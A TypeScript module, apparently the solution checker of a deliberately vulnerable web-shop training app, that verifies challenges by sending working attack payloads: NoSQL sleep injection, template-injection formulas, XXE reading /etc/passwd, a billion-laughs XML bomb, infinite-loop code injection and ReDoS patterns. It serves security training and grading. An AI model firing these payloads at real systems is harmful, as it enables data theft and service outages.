import { guestForm, line } from '../../deployment/deployment.ts';
import { asked } from './search-requests.ts';
import { all, any, saying, type Challenge, type Shop, type Try } from './challenge.ts';

/** Whether one answer took so long that the words sent must have been obeyed. */
async function slow(shop: Shop, tries: readonly Try[]): Promise<boolean> {
  let slowest = 0;
  for (const one of tries) {
    const begun = performance.now();
    await all(shop, [one]);
    slowest = Math.max(slowest, performance.now() - begun);
  }
  return slowest > 8_000;
}

const formulas = ['#{7919*7907}', '{{7919*7907}}', '${7919*7907}', '<%= 7919*7907 %>', '{7919*7907}'];

/** Words that a server might carry out, or chew on for ages. */
export const commands: readonly Challenge[] = [
  {
    name: 'NoSQL DoS',
    tried: 'let the database sleep for ten seconds',
    sign: 'answers that take as long',
    solved: (shop) =>
      slow(shop, asked(shop, ['sleep(10000)', `';sleep(10000);'`, '{"$where":"sleep(10000)"}'])),
  },
  {
    name: 'SSTi',
    tried: 'type formulas into a name, a dish and an address, and look at the pages made of them',
    sign: 'the result of the formula',
    solved: async (shop) => {
      const { market, chef } = shop;
      const name = formulas.join(' ');
      const item = await market.item(chef, { name, description: name });
      const cook = await market.chef({ name });
      const path = encodeURIComponent(name);
      const html = { Accept: 'text/html' };
      const tries = [
        `/mainpage/product/${item._id}`,
        `/chefitems/${cook._id}`,
        `/search/${path}`,
        `/?q=${path}`,
      ].map((page): Try => ['get', page, { headers: html }]);
      const json: Try[] = [
        ['get', `/api/products/${item._id}`],
        ['get', `/api/nothing/${path}`],
      ];
      return any(shop, [...tries, ...json], saying('62615533'));
    },
  },
  {
    name: 'XXE Data Access',
    tried: 'send XML that reads a file of the server, as data and as a picture',
    sign: 'what stands in that file',
    solved: (shop) =>
      any(shop, xml(shop, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')), saying(/root:.*:0:0/)),
  },
  {
    name: 'XXE DoS',
    tried: 'send XML whose words unfold a billion times',
    sign: 'answers that take long',
    solved: (shop) => {
      const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
      return slow(shop, xml(shop, entity(`<!ENTITY e0 "ha">${laughs.join('')}<!ENTITY x "&e9;">`)));
    },
  },
  {
    name: 'Blocked RCE DoS',
    tried: 'send code that never ends wherever an order takes words',
    sign: 'answers that take long',
    solved: (shop) => slow(shop, code(shop, '(function forever(){while(true);})()')),
  },
  {
    name: 'Successful RCE DoS',
    tried: 'send patterns and words that a careless check chews on for ages',
    sign: 'answers that take long',
    solved: (shop) => {
      const chewy = [
        '/((a+)+)b/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa")',
        `${'a'.repeat(180)}!`,
        '(a+)+$',
        ' '.repeat(190),
      ];
      return slow(shop, [...chewy.flatMap((words) => code(shop, words)), ...asked(shop, chewy)]);
    },
  },
];

const entity = (definitions: string) =>
  `<?xml version="1.0"?><!DOCTYPE svg [${definitions}]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`;

function xml({ chef }: Shop, document: string): Try[] {
  const { token } = chef;
  const types = ['application/xml', 'text/xml', 'image/svg+xml', 'application/json'];
  const paths = [
    '/api/products',
    '/api/upload',
    '/api/orders/guest',
    '/api/users/login',
    '/file-upload',
    '/b2b/v2/orders',
  ];
  return paths.flatMap((path) =>
    types.map((type): Try => ['post', path, { body: document, token, headers: { 'Content-Type': type } }]),
  );
}

function code({ item, thief }: Shop, words: string): Try[] {
  const { token } = thief;
  const form = guestForm([{ ...line(item), qty: words }], {
    userName: words,
    userEmail: words,
    customerPhone: words,
  });
  const register = { name: words, email: `${words}@example.com`, phone: words, password: words };
  return [
    ['post', '/api/orders/guest', { body: form }],
    ['post', '/b2b/v2/orders', { body: { cid: words, orderLinesData: words }, token }],
    ['post', '/api/orders', { body: { orderItems: words, shippingAddress: words }, token }],
    ['post', '/api/users', { body: register }],
    ['post', `/api/products/${item._id}/reviews`, { body: { rating: words, comment: words }, token }],
    ['get', `/api/orders/guest/${encodeURIComponent(words)}`],
  ];
}
